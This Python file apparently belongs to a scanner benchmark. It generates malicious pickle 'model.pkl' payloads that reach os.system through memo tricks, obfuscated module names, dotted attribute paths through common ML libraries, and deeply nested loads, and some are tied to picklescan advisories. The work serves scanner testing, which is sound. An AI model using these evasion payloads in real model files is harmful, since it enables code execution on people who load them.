"""Streams that hide what they import: memo, computed operands, dotted names, nested streams."""

from __future__ import annotations

import base64
import zlib

from bench.scanner_attacks.pickle_forms import OLD, SYSTEM
from bench.scanner_attacks.stream import Call, Name, call, push, stream, text
from bench.scanner_attacks.techniques import COMMAND, Family

FAMILY = Family("pickle chains")
_ARGUMENTS = push((COMMAND,))


def _computed(module: bytes, attribute: bytes) -> bytes:
    return b"\x80\x04" + module + attribute + b"\x93" + _ARGUMENTS + b"R."


_JOINED = push(Call(call("builtins", "getattr", "", "join"), (["o", "s"],)))
_DECODED = push(call("_codecs", "decode", "flfgrz", "rot13"))
_MEMO = {
    "memo-put-and-memoize": (
        b"U\x02osq\0U\x06systemq\1"
        + text("torch._utils")
        + b"\x94"
        + text("_rebuild_tensor_v2")
        + b"\x94h\0h\1\x93("
        + text(COMMAND, 0)
        + b"tR."
    ),
    "memo-out-of-order": (
        b"Vos\np2\n0Vsystem\np3\n0Vtorch\np0\n0VLongStorage\np1\n0g2\ng3\n\x93("
        + text(COMMAND, 0)
        + b"tR."
    ),
    "memo-missing-key-after": (b"\x80\x04" + OLD + b"0" + text("os") + b"\x94h\x03h\0\x93K\x42."),
    "memo-wrong-type-after": (
        b"\x80\x04" + OLD + b"0J*\0\0\0\x94" + text("os") + b"\x94h\0h\1\x93K\x42."
    ),
    "memo-overwritten-name": (
        b"\x80\x04"
        + text("collections")
        + b"q\0"
        + text("OrderedDict")
        + b"q\1"
        + text("os")
        + b"q\0"
        + text("system")
        + b"q\1"
        + b"0000h\0h\1\x93"
        + _ARGUMENTS
        + b"R."
    ),
    "memo-long-index": (
        b"\x80\x04" + text("os") + b"r\xff\xff\0\0" + text("system") + b"r\0\0\1\0" + b"00j\xff\xff"
        b"\0\0j\0\0\1\0\x93" + _ARGUMENTS + b"R."
    ),
    "memo-text-index-padded": (
        b"Vos\np007\n0Vsystem\np+8\n0g 7\ng8\n\x93(" + text(COMMAND, 0) + b"tR."
    ),
    "memo-holds-callable": (
        b"\x80\x04"
        + push(Name("os", "system"))
        + b"\x940"
        + text("weights")
        + b"0h\0"
        + _ARGUMENTS
        + b"R."
    ),
    "memo-holds-arguments": (
        b"\x80\x04(" + text(COMMAND) + b"t\x940" + push(Name("os", "system")) + b"h\0R."
    ),
}
_COMPUTED = {
    "module-name-joined": _computed(_JOINED, text("system")),
    "attribute-name-decoded": _computed(text("os"), _DECODED),
    "both-names-from-bytes": _computed(
        push(call("_codecs", "decode", b"os", "utf-8")),
        push(call("_codecs", "decode", b"system", "utf-8")),
    ),
    "module-name-from-base64": _computed(
        push(call("_codecs", "decode", call("base64", "b64decode", "b3M="), "ascii")),
        text("system"),
    ),
    "module-name-reversed": _computed(
        push(Call(call("builtins", "getattr", "", "join"), (call("builtins", "reversed", "so"),))),
        text("system"),
    ),
    "attribute-from-str-replace": _computed(
        text("os"),
        push(Call(call("builtins", "getattr", "syXtem", "replace"), ("X", "s"))),
    ),
    "module-name-from-chr": _computed(
        push(
            call("_operator", "concat", call("builtins", "chr", 111), call("builtins", "chr", 115))
        ),
        text("system"),
    ),
}
_DOTTED = {
    "dotted-through-logging": ("logging", "os.system"),
    "dotted-through-torch": ("torch.serialization", "os.system"),
    "dotted-through-numpy": ("numpy.f2py", "os.system"),
    "dotted-through-joblib": ("joblib._parallel_backends", "os.system"),
    "dotted-through-sklearn": ("sklearn.utils._show_versions", "platform.os.system"),
    "dotted-through-pandas": ("pandas.io.common", "os.system"),
    "dotted-through-argparse": ("argparse", "_os.system"),
    "dotted-through-transformers": ("transformers.utils.hub", "os.system"),
    "module-alias-posixpath": ("posixpath", "os.system"),
    "submodule-asyncio": ("asyncio.unix_events", "_UnixSubprocessTransport._start"),
    "submodule-of-subprocess": ("concurrent.futures.process", "os.system"),
    "init-globals-by-dots": ("random", "_os.system"),
}
_NESTED = {
    "nested-pickle-loads": call("pickle", "loads", stream(SYSTEM)),
    "nested-underscore-pickle": call("_pickle", "loads", stream(SYSTEM)),
    "nested-torch-storage": call("torch.storage", "_load_from_bytes", stream(SYSTEM, 2)),
    "nested-pandas": call("pandas.compat.pickle_compat", "loads", stream(SYSTEM)),
    "nested-dill": call("dill", "loads", stream(SYSTEM)),
    "nested-cloudpickle": call("cloudpickle", "loads", stream(SYSTEM)),
    "nested-base64": call(
        "pickle", "loads", call("base64", "b64decode", base64.b64encode(stream(SYSTEM)).decode())
    ),
    "nested-zlib": call(
        "pickle", "loads", call("zlib", "decompress", zlib.compress(stream(SYSTEM)))
    ),
    "nested-five-deep": None,
    "nested-unpickler-object": Call(
        call(
            "builtins",
            "getattr",
            call("pickle", "Unpickler", call("io", "BytesIO", stream(SYSTEM))),
            "load",
        )
    ),
}


def _deep() -> bytes:
    inside = stream(SYSTEM)
    for _ in range(5):
        inside = stream(call("pickle", "loads", inside))
    return inside


_ADVISORIES = {
    "memo-put-and-memoize": ("picklescan issue 14",),
    "memo-out-of-order": ("picklescan issue 22",),
    "memo-missing-key-after": ("picklescan keyerror-exploit",),
    "memo-wrong-type-after": ("picklescan type-confusion-exploit",),
    "submodule-asyncio": ("CVE-2025-10157", "GHSA-q77w-mwjj-7mqx"),
    "nested-torch-storage": ("GHSA-h3qp-7fh3-f8h4",),
}
_NESTED_CODES = {
    name: _deep() if value is None else stream(value) for name, value in _NESTED.items()
}
_DOTTED_CODES = {name: stream(Call(Name(*names), (COMMAND,))) for name, names in _DOTTED.items()}
for _name, _code in {**_MEMO, **_COMPUTED, **_DOTTED_CODES, **_NESTED_CODES}.items():
    FAMILY.add(_name, "model.pkl", lambda code=_code: code, *_ADVISORIES.get(_name, ()))
